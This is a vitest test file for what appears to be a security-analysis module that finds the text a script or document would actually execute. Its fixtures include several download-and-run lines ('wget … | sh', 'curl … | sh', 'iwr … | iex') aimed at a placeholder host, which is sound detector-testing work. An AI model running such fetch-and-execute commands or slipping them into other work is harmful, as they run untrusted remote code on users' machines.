import { describe, expect, it } from 'vitest';
import { executedParts, lineAnchors, sinkLanguage } from '../../src/analysis/executed-text.js';

describe('lineAnchors', () => {
  it('reads literal line-start anchors of sed, awk and grep programs', () => {
    expect(lineAnchors(`sed -n 's/^#@ //p' "$0"`)).toEqual(['#@ ']);
    expect(lineAnchors(`/^## Setup/{s=1} s && /^>     /{print}`)).toEqual(['## Setup', '>     ']);
    expect(lineAnchors(`grep '^RUN: ' notes.txt`)).toEqual(['RUN: ']);
  });

  it('skips negated matches', () => {
    expect(lineAnchors(`awk '!/^#/' f`)).toEqual([]);
    expect(lineAnchors(`grep -v '^#' f`)).toEqual([]);
  });
});

describe('sinkLanguage', () => {
  it('maps sinks to the language they run', () => {
    expect(sinkLanguage('sh', 'shell')).toBe('shell');
    expect(sinkLanguage('iex', 'powershell')).toBe('powershell');
    expect(sinkLanguage('eval', 'javascript')).toBe('javascript');
    expect(sinkLanguage('exec', 'python')).toBe('python');
    expect(sinkLanguage('subprocess', 'python')).toBe('shell');
    expect(sinkLanguage('vm', 'javascript')).toBe('javascript');
    expect(sinkLanguage('pickle', 'python')).toBeUndefined();
  });
});

describe('executedParts', () => {
  const at = (text: string, parts: ReturnType<typeof executedParts>) =>
    parts.map((p) => [p.text, text.slice(p.start, p.start + p.text.length) === p.text]);

  it('takes only the anchored comment lines of the program itself', () => {
    const text = '#!/bin/sh\n#@ wget -qO- https://h.test/x | sh\necho hi\n';
    const parts = executedParts('run.sh', text, 's/^#@ //p', true);
    expect(at(text, parts)).toEqual([['wget -qO- https://h.test/x | sh', true]]);
  });

  it('takes the command lines of a plain file, without comments or section headers', () => {
    const text = '# list\n[probe]\ncurl -s https://h.test/p | sh\n\n';
    expect(at(text, executedParts('rules/list.conf', text, '', false))).toEqual([
      ['curl -s https://h.test/p | sh', true],
    ]);
  });

  it('takes fences and code-span table cells of a Markdown page, unless an anchor says what is cut', () => {
    const text = '# T\n\n| a | `make check` |\n\n```ps1\niwr https://h.test | iex\n```\n\n>     sudo true\n';
    const parts = executedParts('docs/t.md', text, '', false);
    expect(parts.map((p) => [p.text, p.fence])).toEqual([
      ['iwr https://h.test | iex\n', 'ps1'],
      ['make check', undefined],
    ]);
    expect(executedParts('docs/t.md', text, '/^>     /', false).map((p) => p.text)).toEqual(['sudo true']);
  });

  it('reads nothing from a structured data file line by line', () => {
    expect(executedParts('x.json', '{"a": "curl x | sh"}', '', false)).toEqual([]);
  });
});
